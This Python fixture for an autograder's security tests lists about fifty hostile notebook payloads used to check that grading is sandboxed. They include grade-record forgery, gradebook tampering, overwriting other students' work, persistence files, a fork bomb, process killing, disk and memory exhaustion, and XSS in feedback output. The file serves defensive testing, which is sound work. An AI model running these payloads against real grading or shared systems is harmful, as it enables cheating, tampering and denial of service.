"""Hostile submissions: one per way a student who has read this repository could attack grading.

Each is the notebook the student was given, answered blank (or correctly), plus attack code:
appended to every answer cell (``answer``), as a new first code cell (``first``) or as a new
last cell (``end``). Its student id is ``hostile-<name>`` and its honest grade is what the
answers earn (0 for blank, full marks for correct): an attack that changes the grade, reaches
another student or an instructor file, or leaves a process behind is a bug in the grader.
``tests/pipeline/test_hostile_submissions.py`` grades them all; the demo grades a few.

The code may use these names, replaced when the notebook is written: ``COURSE_ROOT`` and
``REPO_ROOT`` (real paths: an attacker may know them), ``FUNCTIONS`` (the graded functions of
the assignment), ``VICTIM`` (another student of the class, ``correct``) and ``DASK_PORTS``
(Dask's default ports; a test of cluster grading writes in its scheduler's real one).
"""

from dataclasses import dataclass

VICTIM = "correct"
DASK_PORTS = (8786, 8787)


@dataclass(frozen=True)
class Attack:
    name: str
    group: str  # the class of attack, as the README's threat model lists them
    what: str  # what it tries, in one line
    code: str
    base: str = "blank"  # "blank" or "correct": the answers under the attack
    where: str = "answer"  # "answer", "first" or "end"


def _try(body: str) -> str:
    """Attack code that reports its own failure instead of stopping the cell."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"try:\n{indented}\nexcept BaseException as _error:\n    print('attack failed:', repr(_error)[:200])\n"


ATTACKS = [
    # ---------------------------------------------------------------- trusted code and data
    Attack(
        "import-reference",
        "reference",
        "import the reference solutions and use them",
        _try(
            "from solutions import reference\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = reference(_name)"
        ),
    ),
    Attack(
        "import-hidden-expectations",
        "reference",
        "import the hidden check engine and answer with its expected values",
        _try(
            "from autograder.hidden_checks import hidden_judged_cases\n"
            "_cases = {n: hidden_judged_cases(n) for n in FUNCTIONS}\n"
            "print('got', {n: len(c) for n, c in _cases.items()})"
        ),
    ),
    Attack(
        "exec-reference-source",
        "reference",
        "read the reference's source file and run it",
        _try(
            "_namespace = {}\n"
            "for _file in ('gradient_descent.py', 'mini_batches.py', 'momentum.py',\n"
            "              'adaptive_methods.py', 'learning_rate_decay.py', 'training.py',\n"
            "              'robust_training.py', 'beyond_gradients.py',\n"
            "              'landscape_and_initialization.py'):\n"
            "    exec(open(REPO_ROOT + '/solutions/' + _file).read(), _namespace)\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = _namespace[_name]"
        ),
    ),
    Attack(
        "sys-path-course-root",
        "reference",
        "put the course root on sys.path to import the grader's packages",
        _try(
            "import sys\nsys.path[:0] = [REPO_ROOT, COURSE_ROOT]\n"
            "import importlib\n"
            "_reference = importlib.import_module('solutions.' + 'ASSIGNMENT'.split('_', 1)[1])\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = getattr(_reference, _name)"
        ),
    ),
    Attack(
        "files-next-to-notebook",
        "reference",
        "plant modules next to the notebook and put the folder first on sys.path",
        _try(
            "import os, sys\n"
            "os.makedirs('solutions', exist_ok=True)\n"
            "open('solutions/__init__.py', 'w').write('def reference(name):\\n    raise SystemExit\\n')\n"
            "open('recorder.py', 'w').write('def record(*args):\\n    pass\\n')\n"
            "sys.path.insert(0, os.getcwd())"
        ),
    ),
    Attack(
        "walk-filesystem",
        "read",
        "list every file it can see and print the grader's ones into its feedback",
        _try(
            "import os\n_seen = []\n"
            "for _top in ('/', '/work', '/root', '/home', '/tmp', COURSE_ROOT, REPO_ROOT):\n"
            "    for _dir, _subdirs, _files in os.walk(_top):\n"
            "        if _dir.startswith(('/proc', '/sys', '/usr', '/dev')):\n"
            "            _subdirs[:] = []\n"
            "            continue\n"
            "        _seen += [os.path.join(_dir, f) for f in _files\n"
            "                  if 'gradebook' in f or f.endswith(('.db', 'momentum.py'))\n"
            "                  or 'submitted' in _dir]\n"
            "print('found:', _seen[:50])"
        ),
    ),
    Attack(
        "read-environment",
        "read",
        "print every environment variable (hidden seed, paths)",
        "import os\nprint(dict(os.environ))\n",
        where="first",
    ),
    Attack(
        "read-hidden-inputs",
        "read",
        "print the hidden cases the sandbox holds and their labels",
        _try(
            "import os, glob\n"
            "for _path in glob.glob('/grading/in/cases/*.json'):\n"
            "    print(_path, open(_path).read()[:3000])"
        ),
        where="end",
    ),
    Attack(
        "read-other-submission",
        "read",
        "read another student's submitted notebook",
        _try(
            "print(open(COURSE_ROOT + '/submitted/' + VICTIM + '/ASSIGNMENT/NOTEBOOK').read()[:500])"
        ),
    ),
    # ---------------------------------------------------------------- the judge, in-process
    Attack(
        "patch-optkit-check",
        "judge",
        "replace optkit.check by a function that passes",
        _try(
            "import optkit\noptkit.check = lambda name, fn: print('✓', name, 'passed')\n"
            "import optkit.public_checks\noptkit.public_checks.check = optkit.check"
        ),
    ),
    Attack(
        "patch-hidden-check",
        "judge",
        "replace the hidden check by one that passes",
        _try(
            "import sys, types\n_fake = types.ModuleType('autograder.hidden_checks')\n"
            "_fake.hidden_check = lambda name, fn: print('✓', name, 'passed')\n"
            "sys.modules['autograder'] = types.ModuleType('autograder')\n"
            "sys.modules['autograder.hidden_checks'] = _fake"
        ),
    ),
    Attack(
        "patch-numpy-compare",
        "judge",
        "make numpy's comparisons always say equal",
        _try(
            "import numpy as np\n"
            "np.isclose = lambda *a, **k: np.ones(np.shape(a[0]), dtype=bool)\n"
            "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True"
        ),
    ),
    Attack(
        "patch-builtins",
        "judge",
        "replace builtins.any / all / isinstance",
        _try("import builtins\nbuiltins.any = lambda *_: False\nbuiltins.all = lambda *_: True"),
    ),
    Attack(
        "patch-recorder",
        "judge",
        "replace the recorder with one that records nothing",
        _try(
            "import sys, types\n_fake = types.ModuleType('recorder')\n"
            "_fake.record = lambda *a, **k: print('recorded')\nsys.modules['recorder'] = _fake"
        ),
    ),
    Attack(
        "patch-import",
        "judge",
        "replace __import__ so that the recorder cannot load",
        _try(
            "import builtins\n_real = builtins.__import__\n"
            "def _import(name, *a, **k):\n"
            "    if name == 'recorder':\n        raise ImportError('no')\n"
            "    return _real(name, *a, **k)\nbuiltins.__import__ = _import"
        ),
    ),
    Attack(
        "input-transformer",
        "judge",
        "an IPython input transformer that turns every later cell into `pass`",
        _try(
            "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'] if any('record' in l or 'check' in l for l in lines) else lines)"
        ),
    ),
    Attack(
        "displayhook",
        "judge",
        "call sys.displayhook before failing (nbgrader's partial credit)",
        _try(
            "import sys\nsys.displayhook(1.0)\nget_ipython().display_pub.publish({'text/plain': '1.0'})"
        ),
    ),
    Attack(
        "array-function-subclass",
        "judge",
        "return an ndarray subclass whose comparisons are always true",
        _try(
            "import numpy as np\n"
            "class _Always(np.ndarray):\n"
            "    def __array_function__(self, func, types, args, kwargs):\n"
            "        return True\n"
            "    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
            "def _wrap(fn):\n"
            "    def wrapped(*args, **kwargs):\n"
            "        return {k: np.zeros(3).view(_Always) for k in 'abc'}\n"
            "    return wrapped\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = _wrap(globals()[_name])"
        ),
    ),
    Attack(
        "foreign-object",
        "judge",
        "return an object equal to everything",
        _try(
            "class _Equal:\n    def __eq__(self, other):\n        return True\n"
            "    def __array__(self, *a, **k):\n        import numpy; return numpy.zeros(1)\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = lambda *a, **k: _Equal()"
        ),
    ),
    Attack(
        "frame-walk",
        "judge",
        "walk up the call stack to find the expected values",
        _try(
            "import sys\n"
            "def _spy(*args, **kwargs):\n"
            "    frame, found = sys._getframe(1), None\n"
            "    while frame is not None:\n"
            "        for key, value in frame.f_locals.items():\n"
            "            if 'expect' in key:\n                found = value\n"
            "        frame = frame.f_back\n"
            "    return found\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = _spy"
        ),
    ),
    Attack(
        "cyclic-return",
        "judge",
        "return a container that contains itself",
        _try(
            "def _loop(*args, **kwargs):\n    x = []\n    x.append(x)\n    return x\n"
            "for _name in FUNCTIONS:\n    globals()[_name] = _loop"
        ),
    ),
    Attack(
        "trap-in-a-default",
        "judge",
        "give every function an extra default whose comparison or repr would run code",
        _try(
            "class _Trap:\n"
            "    def __eq__(self, other):\n"
            "        open(COURSE_ROOT + '/trapped', 'w').write('eq')\n        return True\n"
            "    def __repr__(self):\n"
            "        open(COURSE_ROOT + '/trapped', 'w').write('repr')\n"
            "        raise RuntimeError('trap')\n"
            "    __hash__ = object.__hash__\n"
            "import inspect\n"
            "for _name in FUNCTIONS:\n"
            "    if _name in globals() and 'trap' not in inspect.signature(globals()[_name]).parameters:\n"
            "        _f = globals()[_name]\n"
            "        _args = ', '.join(inspect.signature(_f).parameters)\n"
            "        _ns = {'_f': _f, '_TRAP': _Trap()}\n"
            "        exec(f'def {_name}({_args}, trap=_TRAP):\\n    return _f({_args})', _ns)\n"
            "        globals()[_name] = _ns[_name]"
        ),
        base="correct",
    ),
    Attack(
        "forge-records",
        "judge",
        "write records claiming the inputs were the answers",
        _try(
            "import json, glob, os\n"
            "for _path in glob.glob('/grading/in/cases/*.json'):\n"
            "    spec = json.load(open(_path))\n"
            "    gid = os.path.basename(_path)[:-5]\n"
            "    obs = [{'dict': [['returned', c], ['inputs_after', {'dict': [], 'ref': 10**6 + i}]], 'ref': 10**7 + i}\n"
            "           for i, c in enumerate(spec['cases'])]\n"
            "    with open('/grading/out/records.jsonl', 'a') as out:\n"
            "        out.write(json.dumps({'grade_id': gid, 'function': spec['function'], 'observations': obs}) + '\\n')"
        ),
        where="end",
    ),
    Attack(
        "forge-garbage-records",
        "judge",
        "write malformed, huge and deeply nested records",
        _try(
            "import glob, os\n"
            "with open('/grading/out/records.jsonl', 'a') as out:\n"
            "    for _path in glob.glob('/grading/in/cases/*.json'):\n"
            "        gid = os.path.basename(_path)[:-5]\n"
            "        out.write('{\"grade_id\": \"%s\", \"observations\": ' % gid + '[' * 100000 + '\\n')\n"
            '        out.write(\'{"grade_id": "%s", "observations": [{"array": "object", "shape": [9], "data": "!!", "ref": 1}]}\\n\' % gid)\n'
            "        out.write('x' * 5_000_000 + '\\n')"
        ),
        where="end",
    ),
    Attack(
        "fake-diagnosis",
        "judge",
        "print a 'Likely mistake' line to be counted by the report",
        "print('Likely mistake [FIRST_FUNCTION:sign_error]: The sign is wrong. Fix it.')\n"
        "raise AssertionError('Likely mistake [FIRST_FUNCTION:sign_error]: The sign is wrong. Fix it.')\n",
        where="end",
    ),
    # ---------------------------------------------------------------- other students, instructor
    Attack(
        "gradebook-sqlite",
        "gradebook",
        "open the gradebook with sqlite3: own grade to full, the victim's to 0",
        _try(
            "import sqlite3\n"
            "for _path in ('../../../gradebook.db', COURSE_ROOT + '/gradebook.db'):\n"
            "    try:\n"
            "        db = sqlite3.connect(_path)\n"
            "        db.execute('update grade set auto_score = 100')\n"
            "        db.commit()\n"
            "    except Exception as error:\n        print('no', _path, error)"
        ),
    ),
    Attack(
        "rewrite-other-submission",
        "others",
        "overwrite another student's submitted notebook",
        _try(
            "open(COURSE_ROOT + '/submitted/' + VICTIM + '/ASSIGNMENT/NOTEBOOK', 'w').write('{}')"
        ),
    ),
    Attack(
        "plant-feedback",
        "others",
        "plant text in another student's feedback folder",
        _try(
            "import os\n_dir = COURSE_ROOT + '/feedback/' + VICTIM + '/ASSIGNMENT'\n"
            "os.makedirs(_dir, exist_ok=True)\n"
            "open(_dir + '/NOTEBOOK_STEM.html', 'w').write('<h1>you failed</h1>')"
        ),
    ),
    Attack(
        "rewrite-autograded",
        "others",
        "rewrite another student's autograded notebook",
        _try(
            "open(COURSE_ROOT + '/autograded/' + VICTIM + '/ASSIGNMENT/NOTEBOOK', 'w').write('{}')"
        ),
    ),
    Attack(
        "edit-reference",
        "instructor",
        "edit the editable-installed reference so every later correct student fails",
        _try("open(REPO_ROOT + '/solutions/momentum.py', 'a').write('\\nraise SystemExit\\n')"),
    ),
    Attack(
        "edit-source-notebook",
        "instructor",
        "edit the instructor's source notebook",
        _try("open(COURSE_ROOT + '/source/ASSIGNMENT/NOTEBOOK', 'w').write('{}')"),
    ),
    Attack(
        "edit-nbgrader-config",
        "instructor",
        "append code to nbgrader_config.py",
        _try(
            "open(COURSE_ROOT + '/nbgrader_config.py', 'a').write('\\nimport os; os.system(\"touch /tmp/pwned\")\\n')"
        ),
    ),
    Attack(
        "plant-pth",
        "instructor",
        "plant a .pth file in site-packages (runs in every Python)",
        _try(
            "import site, sysconfig\n"
            "for _dir in site.getsitepackages() + [sysconfig.get_paths()['purelib']]:\n"
            "    try:\n        open(_dir + '/zz_evil.pth', 'w').write('import os\\n')\n"
            "    except OSError as error:\n        print('no', _dir, error)"
        ),
    ),
    Attack(
        "plant-ipython-startup",
        "instructor",
        "plant an IPython startup file that would run in every later kernel",
        _try(
            "import os\n_dir = os.path.expanduser('~/.ipython/profile_default/startup')\n"
            "os.makedirs(_dir, exist_ok=True)\n"
            "open(_dir + '/00-evil.py', 'w').write('raise SystemExit\\n')\n"
            "for _home in ('/root', '/home/' + os.environ.get('SUDO_USER', 'x')):\n"
            "    try:\n"
            "        os.makedirs(_home + '/.ipython/profile_default/startup', exist_ok=True)\n"
            "        open(_home + '/.ipython/profile_default/startup/00-evil.py', 'w').write('raise SystemExit')\n"
            "    except OSError as error:\n        print('no', _home, error)"
        ),
    ),
    Attack(
        "symlink-escape",
        "instructor",
        "symlink the course root into the working folder",
        _try(
            "import os\nos.symlink(REPO_ROOT, 'repo')\n"
            "print(open('repo/solutions/momentum.py').read()[:200])"
        ),
    ),
    # ---------------------------------------------------------------- processes
    Attack(
        "kill-everything",
        "processes",
        "kill every process it can see, the grader's runner and sibling kernels included",
        _try(
            "import os, signal\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if _pid != os.getpid():\n"
            "        for _sig in (signal.SIGTERM, signal.SIGKILL):\n"
            "            try:\n                os.kill(_pid, _sig)\n"
            "            except OSError:\n                pass"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "trace-runner",
        "processes",
        "read the runner's memory and files through /proc",
        _try(
            "import os\nprint(open('/proc/1/environ').read()[:100])\nprint(os.listdir('/proc/1/fd'))\n"
            "open('/proc/1/mem', 'rb')"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "detached-rewriter",
        "processes",
        "a detached background process that rewrites results after the run",
        _try(
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import time, os\\n'\n"
            "    'time.sleep(8)\\n'\n"
            '    \'open(os.environ.get("HOME") + "/late", "w").write("x")\\n\'\n'
            "    'time.sleep(600)  # hostile-detached-rewriter'],\n"
            "    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
            "    stderr=subprocess.DEVNULL)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "hold-output-pipe",
        "processes",
        "a forked child that keeps every inherited pipe open forever",
        _try(
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    while True:\n        time.sleep(1)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "fork-bomb",
        "processes",
        "fork until the process limit",
        _try(
            "import os\n_children = []\n"
            "for _ in range(100000):\n"
            "    pid = os.fork()\n"
            "    if pid == 0:\n        import time; time.sleep(3600); os._exit(0)\n"
            "    _children.append(pid)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "cpu-hog",
        "processes",
        "keep every core busy with background processes",
        _try(
            "import multiprocessing\n"
            "def _spin():\n    while True:\n        pass\n"
            "for _ in range(4):\n    multiprocessing.Process(target=_spin, daemon=False).start()\n"
            "import time\ntime.sleep(20)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "memory-bomb",
        "resources",
        "allocate far more memory than the cap, in several processes",
        _try(
            "import os, time\n"
            "for _ in range(6):\n"
            "    if os.fork() == 0:\n"
            "        block = b'\\x01' * (900 * 2**20)  # touched, so resident\n"
            "        time.sleep(60)\n        os._exit(0)\n"
            "    time.sleep(1.5)\n"
            "time.sleep(20)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "disk-fill",
        "resources",
        "fill the disk of the working folder, home and /tmp",
        _try(
            "import os\n"
            "for _dir in ('.', os.path.expanduser('~'), '/tmp', '/grading/out'):\n"
            "    for _i in range(100):\n"
            "        try:\n"
            "            with open(f'{_dir}/fill{_i}', 'wb') as out:\n"
            "                out.write(b'x' * 60 * 2**20)\n"
            "        except OSError as error:\n"
            "            print('stopped:', error)\n            break"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "big-file",
        "resources",
        "write a 200 MB file next to the notebook",
        _try("with open('big.bin', 'wb') as out:\n    out.write(b'x' * 200 * 2**20)"),
        base="correct",
        where="end",
    ),
    Attack(
        "network",
        "resources",
        "reach the network and services on the grading machine",
        _try(
            "import socket, urllib.request\n"
            "for _host, _port in (('127.0.0.1', 8786), ('8.8.8.8', 53), ('pypi.org', 443)):\n"
            "    try:\n"
            "        socket.create_connection((_host, _port), timeout=2)\n"
            "        print('connected', _host)\n"
            "    except OSError as error:\n        print('no', _host, error)"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "reach-dask",
        "resources",
        "reach the Dask scheduler (or a worker) of the grading cluster and make it run code",
        _try(
            "import socket\n"
            "for _port in DASK_PORTS:  # Dask's default ports (the cluster test adds its own)\n"
            "    try:\n"
            "        socket.create_connection(('127.0.0.1', _port), timeout=2).close()\n"
            "    except OSError as error:\n"
            "        print('no', _port, error)\n        continue\n"
            "    print('connected', _port)\n"
            "    from distributed import Client\n"
            "    Client(f'tcp://127.0.0.1:{_port}', timeout=5).run(\n"
            "        lambda: open('/tmp/pwned', 'w').write('dask'))"
        ),
        base="correct",
        where="end",
    ),
    Attack(
        "script-in-outputs",
        "feedback",
        "put scripts in its outputs and markdown for the instructor's browser",
        "from IPython.display import HTML, Javascript, SVG, Markdown, display\n"
        'display(HTML(\'<script>alert("html")</script><img src=x onerror="alert(1)"><b>bold</b>\'))\n'
        "display(Javascript('alert(\"js\")'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(2)</script></svg>'))\n"
        "display(Markdown('<script>alert(\"md\")</script>'))\n"
        "print('<script>alert(\"print\")</script>')\n",
        base="correct",
        where="end",
    ),
    Attack(
        "forged-images",
        "feedback",
        "emit image/png outputs that are not PNGs (markup, an attribute break-out, another "
        "format) and a huge one, for the feedback page",
        "import base64\nfrom IPython.display import display\n"
        "display({'image/png': 'not base64 <script>alert(\"png\")</script>'}, raw=True)\n"
        "display({'image/png': 'iVBORw0KGgo=\" onerror=\"alert(4)', 'text/plain': 'forged'},\n"
        "        raw=True)\n"
        "display({'image/png': base64.b64encode(b'<svg onload=alert(5)></svg>').decode()},\n"
        "        raw=True)\n"
        "display({'image/png': base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + b'A' * 3 * 2**20)\n"
        "         .decode()}, raw=True)\n",
        base="correct",
        where="end",
    ),
    # ---------------------------------------------------------------- ends of notebooks
    Attack(
        "exit-at-end",
        "run",
        "os._exit in the last (ungraded) cell",
        "import os\nos._exit(1)\n",
        base="correct",
        where="end",
    ),
    Attack(
        "system-exit-at-end",
        "run",
        "raise SystemExit in the last cell",
        "raise SystemExit(3)\n",
        base="correct",
        where="end",
    ),
    Attack(
        "sleep-at-end",
        "run",
        "never finish the last cell",
        "import time\ntime.sleep(10**6)\n",
        base="correct",
        where="end",
    ),
    Attack(
        "ignore-interrupt",
        "run",
        "ignore the interrupt at the time limit and spin forever",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
        base="correct",
        where="end",
    ),
    Attack(
        "error-type-injection",
        "feedback",
        "raise an exception whose name and message carry markup and terminal escapes",
        "class _E(Exception):\n    pass\n_E.__name__ = '<script>x</script>\\x1b[31mEvil'\n"
        "raise _E('\\x1b]0;owned\\x07<img src=x onerror=alert(3)>')\n",
        where="end",
    ),
]
